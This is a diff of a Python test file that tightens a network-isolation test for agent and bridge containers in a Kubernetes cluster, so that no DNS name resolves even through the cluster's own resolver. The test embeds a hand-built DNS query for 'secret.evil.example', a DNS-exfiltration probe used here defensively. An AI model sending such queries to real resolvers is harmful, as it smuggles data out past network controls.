@@ -427,7 +427,9 @@ def test_24_a_run_reaches_the_bus_and_its_model_and_nothing_else(
         assert plain.python(container, REACH, *allowed) == allowed
 
 
-def test_24_names_are_asked_of_the_clusters_resolver_only(plain: LiveRun) -> None:
+def test_24_no_name_leaves_a_run_not_even_to_the_clusters_resolver(
+    tenants: Clients, plain: LiveRun
+) -> None:
     code = """
 import json, socket, sys
 query = bytes.fromhex("123401000001000000000000") + b"\\x06secret\\x04evil\\x07example\\x00"
@@ -444,8 +446,16 @@ for address in sys.argv[1:]:
             pass
 print(json.dumps(answered))
 """
-    outside = ["8.8.8.8", "192.0.2.1", NODE_ADDRESS]
-    assert plain.python("agent", code, *outside) == []
+    resolver = tenants.get("-n", "kube-system", "service", "kube-dns")
+    pods = tenants.get("-n", "kube-system", "pods", "-l", "k8s-app=kube-dns")["items"]
+    inside = [resolver["spec"]["clusterIP"], *(pod["status"]["podIP"] for pod in pods)]
+    assert len(inside) > 1
+    for container in ("agent", "ipc-bridge"):
+        outside = ["8.8.8.8", "192.0.2.1", NODE_ADDRESS]
+        assert plain.python(container, code, *inside, *outside) == []
+        known = "import json, socket; print(json.dumps(socket.gethostbyname('{}')))"
+        with pytest.raises(ClusterError, match=r"gaierror|Temporary failure|not known"):
+            plain.python(container, known.format("kubernetes.default.svc.cluster.local"))
 
 
 def test_31_memory_taken_without_end_ends_what_took_it_and_nobody_else(
